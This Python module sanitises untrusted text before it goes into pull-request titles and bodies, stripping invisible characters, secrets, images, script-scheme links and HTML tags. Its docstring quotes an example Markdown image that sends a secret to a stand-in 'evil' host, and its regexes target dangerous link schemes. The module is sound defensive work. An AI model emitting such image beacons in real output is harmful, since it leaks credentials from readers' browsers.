"""Make untrusted text safe to put in a pull request (RELIABILITY.md #7, #16).

PR titles and bodies are written from model output, test logs and repository text, any of which may
carry a prompt-injected payload or a leaked credential. Before either is stored or sent:

- invisible characters (zero-width, bidi controls, Unicode tag characters) are removed, so nothing
  hides in plain sight;
- secrets found by ``maestro.tools.pii.secrets`` are replaced by ``[redacted TYPE]``;
- Markdown images are dropped (a reviewer's browser would fetch ``![x](https://evil/?d=SECRET)``
  without a click), as are links with ``javascript:``, ``vbscript:``, ``data:`` or ``file:`` targets;
- a ``<`` that opens an HTML tag becomes ``&lt;`` (no ``<img>``, ``<script>`` or autolinks).

Every function is idempotent: sanitising twice gives the same text.
"""

from __future__ import annotations

import re

from maestro.tools.pii.secrets import find_secrets

__all__ = ["clean_title", "redact_secrets", "sanitize_markdown"]

_INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff\U000e0000-\U000e007f]")
_IMAGE = re.compile(r"!\[((?:[^\[\]\\]|\\.)*)\]\s*(?:\((?:[^()]|\([^()]*\))*\)|\[[^\]]*\])")
_BAD_LINK = re.compile(
    r"\[((?:[^\[\]\\]|\\.)*)\]\(\s*<?\s*(?:javascript|vbscript|data|file)\s*:(?:[^()]|\([^()]*\))*\)",
    re.IGNORECASE,
)
_REF_DEFINITION = re.compile(
    r"^\s{0,3}\[[^\]]+\]:\s*<?\s*(?:javascript|vbscript|data|file)\s*:.*$", re.IGNORECASE | re.MULTILINE
)
_TAG_OPEN = re.compile(r"<(?=[A-Za-z/!?])")
TITLE_MAX = 256
BODY_MAX = 60_000  # GitHub refuses bodies over 65,536 characters
_TRUNCATED = "\n\n_(truncated)_\n"


def redact_secrets(text: str) -> str:
    """``text`` with every detected secret replaced by ``[redacted TYPE]`` (leftmost, longest first)."""
    spans = sorted(find_secrets(text), key=lambda s: (s.start, -(s.end - s.start)))
    if not spans:
        return text
    out: list[str] = []
    last = 0
    for span in spans:
        if span.start < last:
            continue
        out.append(text[last : span.start])
        out.append(f"[redacted {span.entity}]")
        last = span.end
    out.append(text[last:])
    return "".join(out)


def sanitize_markdown(text: str) -> str:
    """Markdown that renders without fetching anything, running anything or showing a secret."""
    text = _INVISIBLE.sub("", text)
    text = redact_secrets(text)
    text = _IMAGE.sub(lambda m: f"[image removed: {m.group(1)}]" if m.group(1) else "[image removed]", text)
    text = _BAD_LINK.sub(r"\1", text)
    text = _REF_DEFINITION.sub("", text)
    text = _TAG_OPEN.sub("&lt;", text)
    if len(text) > BODY_MAX:
        text = text[: BODY_MAX - len(_TRUNCATED)] + _TRUNCATED
    return text


def clean_title(title: str) -> str:
    """One sanitised line of at most 256 characters (whitespace runs collapsed)."""
    line = " ".join(sanitize_markdown(title).split())
    return line[: TITLE_MAX - 1] + "…" if len(line) > TITLE_MAX else line
